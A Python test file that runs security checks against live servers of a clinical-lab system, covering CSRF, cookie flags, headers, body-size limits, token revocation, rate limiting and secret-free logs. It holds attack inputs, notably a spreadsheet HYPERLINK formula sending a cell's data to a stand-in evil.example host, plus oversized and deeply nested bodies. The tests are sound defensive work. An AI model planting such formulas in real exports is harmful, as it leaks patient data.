"""The attacks of the security pass against real ``labred edge serve`` / ``labred hub serve``
processes: every fix of tests/security holds across a real HTTP server, and a real run's logs
hold no password, token or patient document."""

from __future__ import annotations

import io
import zipfile
from contextlib import AbstractContextManager
from pathlib import Path

import httpx
import pytest
from sqlalchemy import text

from central.runtime import HubRuntime
from domain.ids import new_id
from domain.permissions import Role
from tests.central.auth.factories import make_sede, make_user
from tests.procs import HubProcess, bearer, init_edge, serving_edge, serving_hub
from tests.security.hubnodes import S01, S02, audit_row, enrol, push

pytestmark = pytest.mark.slow

PASSWORD = "clave-segura-2026"
FORMULA = '=HYPERLINK("http://evil.example/?d="&C2,"ver resultados")'
DNI = "45871236"
FIFTY_MB = 50 * 1024 * 1024


def _rss_kb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def _post_50_mb(http: httpx.Client, path: str, headers: dict[str, str]) -> httpx.Response:
    body = b'{"address": "' + b"a" * FIFTY_MB + b'"}'
    return http.post(path, content=body, headers={**headers, "Content-Type": "application/json"})


def _assert_security_headers(r: httpx.Response) -> None:
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["x-frame-options"] == "DENY"
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    assert "script-src 'self';" in r.headers["content-security-policy"]
    assert r.headers["referrer-policy"] == "same-origin"


def _assert_50_mb_refused(
    http: httpx.Client, pid: int, paths: list[str], headers: dict[str, str]
) -> None:
    """A 50 MB body to each of ``paths`` is a 413 (with the security headers), and process
    ``pid`` did not read it into memory."""
    before = _rss_kb(pid)
    for path in paths:
        r = _post_50_mb(http, path, headers)
        assert r.status_code == 413, r.text[:200]
        assert r.json()["detail"][0]["type"] == "payload_too_large"
        _assert_security_headers(r)
    assert _rss_kb(pid) - before < 20 * 1024


def _assert_guarded(http: httpx.Client, paths: list[str], headers: dict[str, str]) -> None:
    """The security headers on each of ``paths``; CORS closed to other origins."""
    for path in paths:
        _assert_security_headers(http.get(path, headers=headers))
    r = http.get("/api/auth/me", headers={**headers, "Origin": "http://evil.example"})
    assert "access-control-allow-origin" not in r.headers


def _serving_hub(
    hub_runtime: HubRuntime, tmp_path: Path, *, log: Path, env: dict[str, str]
) -> AbstractContextManager[HubProcess]:
    """``labred hub serve`` on the test's database (its engine released first)."""
    hub_runtime.engine.dispose()
    url = hub_runtime.settings.database_url or ""
    return serving_hub(tmp_path / "hub-proc", url, log=log, env=env)


def test_edge_process_resists_the_attacks(tmp_path: Path) -> None:
    data = init_edge(tmp_path / "edge", PASSWORD, demo_catalog=False)
    log = tmp_path / "edge.log"
    env = {"LABRED_EDGE_LOG_LEVEL": "DEBUG", "LABRED_EDGE_RATE_LIMIT_PER_MINUTE": "100000"}
    with (
        serving_edge(data, log=log, env=env) as edge,
        httpx.Client(base_url=edge.url, timeout=60) as http,
    ):
        assert edge.proc is not None
        r = http.post("/api/auth/login", json={"username": "admin", "password": PASSWORD})
        assert r.status_code == 200, r.text
        signed = r.json()
        cookies = {c.split("=", 1)[0]: c.lower() for c in r.headers.get_list("set-cookie")}
        for name in ("labred_access", "labred_refresh"):
            assert "httponly" in cookies[name] and "samesite=strict" in cookies[name]
        assert "samesite=strict" in cookies["labred_csrf"]
        # the cookie session changes nothing without the CSRF header (a forged form has none)
        r = http.post("/api/patients", json={"doc_type": "1", "doc_number": "40000001"})
        assert r.status_code == 403 and r.json()["detail"][0]["type"] == "csrf_failed"
        http.cookies.clear()
        admin = {"Authorization": f"Bearer {signed['access_token']}"}

        # a formula typed as an address is exported as text
        r = http.post(
            "/api/patients",
            json={"doc_type": "1", "doc_number": DNI, "first_names": "Ana",
                  "last_names": "Díaz", "address": FORMULA},
            headers=admin,
        )  # fmt: skip
        assert r.status_code == 201, r.text
        r = http.get("/api/patients/export", headers=admin)
        assert r.status_code == 200, r.text
        with zipfile.ZipFile(io.BytesIO(r.content)) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "HYPERLINK" in sheet and "<f>" not in sheet

        # a 50 MB body is refused without being read into memory
        _assert_50_mb_refused(http, edge.proc.pid, ["/api/patients"], admin)

        # security headers on pages and API answers; CORS closed to other origins
        _assert_guarded(http, ["/", "/api/auth/me", "/api/no-such-thing"], admin)

        # signing out ends the access token at once, not 30 minutes later
        r = http.post(
            "/api/auth/logout", json={"refresh_token": signed["refresh_token"]}, headers=admin
        )
        assert r.status_code == 200, r.text
        r = http.get("/api/auth/me", headers=admin)
        assert r.status_code == 401
        assert r.json()["detail"][0]["type"] == "session_revoked"

    logged = log.read_text()
    assert '"path": "/api/auth/me"' in logged  # DEBUG logs every request: the grep means something
    for secret in (PASSWORD, signed["access_token"], signed["refresh_token"], DNI):
        assert secret not in logged


def test_hub_process_resists_the_attacks(hub_runtime: HubRuntime, tmp_path: Path) -> None:
    make_sede(hub_runtime, "S01")
    make_sede(hub_runtime, "S02")
    make_user(hub_runtime, Role.ADMIN, username="jefa", password=PASSWORD)
    log = tmp_path / "hub.log"
    env = {"LABRED_HUB_RATE_LIMIT_PER_MINUTE": "100000", "LABRED_HUB_LOG_LEVEL": "DEBUG"}
    with (
        _serving_hub(hub_runtime, tmp_path, log=log, env=env) as hub,
        httpx.Client(base_url=hub.url, timeout=60) as http,
    ):
        r = http.post("/api/auth/login", json={"username": "jefa", "password": PASSWORD})
        assert r.status_code == 200, r.text
        signed = r.json()
        admin = {"Authorization": f"Bearer {signed['access_token']}"}

        # one node cannot take over another sede's record by pushing its id
        n1, n2 = enrol(http, admin, S01), enrol(http, admin, S02)
        victim = new_id()
        r = push(http, n2, [audit_row(1, victim, S02, "original", node_id=n2.node_id)])
        assert r.status_code == 200 and r.json()["parked"] == [], r.text
        r = push(http, n1, [audit_row(1, victim, S01, "forged", node_id=n1.node_id)])
        assert r.status_code == 200, r.text
        assert [p["reason"] for p in r.json()["parked_details"]] == ["foreign_sede"]
        with hub_runtime.engine.connect() as conn:
            kept = conn.execute(
                text("SELECT sede_id, payload->>'action' FROM sync_record WHERE id = :i"),
                {"i": victim},
            ).one()
        assert tuple(kept) == (S02, "original")

        # node credentials are no user token, and a user token is no node credential
        assert http.get("/api/auth/me", auth=n1.auth).status_code == 401
        r = http.post("/api/sync/push", json={}, headers=admin)
        assert r.status_code == 401

        # a 50 MB body is refused before anything buffers it (the NUL guard used to)
        big_paths = ["/api/auth/login", "/api/catalog/services"]
        _assert_50_mb_refused(http, hub.proc.pid, big_paths, admin)
        _assert_guarded(http, ["/panel", "/api/auth/me", "/api/no-such-thing"], admin)

        # a deeply nested body is a 422, not a 500 (anonymous: the NUL guard runs before auth)
        deep = "[" * 5000 + '"\\u0000"' + "]" * 5000
        r = http.post("/api/auth/login", content=deep, headers={"Content-Type": "application/json"})
        assert r.status_code == 422 and r.json()["detail"][0]["type"] == "json_too_deep"

        # signing out ends the access token at once
        r = http.post("/api/auth/logout", json={"refresh_token": signed["refresh_token"]})
        assert r.status_code == 200, r.text
        r = http.get("/api/auth/me", headers=admin)
        assert r.status_code == 401
        assert r.json()["detail"][0]["type"] == "session_revoked"

    logged = log.read_text()
    assert '"path": "/api/auth/me"' in logged
    for secret in (PASSWORD, signed["access_token"], signed["refresh_token"], n1.secret):
        assert secret not in logged


def test_hub_process_limits_each_user_per_minute(hub_runtime: HubRuntime, tmp_path: Path) -> None:
    make_user(hub_runtime, Role.SUPERVISOR, username="sup", password=PASSWORD)
    env = {"LABRED_HUB_RATE_LIMIT_PER_MINUTE": "5"}
    with (
        _serving_hub(hub_runtime, tmp_path, log=tmp_path / "hub.log", env=env) as hub,
        httpx.Client(base_url=hub.url, timeout=30) as http,
    ):
        sup = bearer(http, "sup", PASSWORD)  # the address's first request
        codes = [http.get("/api/auth/me", headers=sup).status_code for _ in range(6)]
        assert codes == [200] * 5 + [429]
        r = http.get("/api/auth/me", headers=sup)
        assert r.status_code == 429 and 1 <= int(r.headers["retry-after"]) <= 60
        assert r.json()["detail"][0]["type"] == "rate_limited"
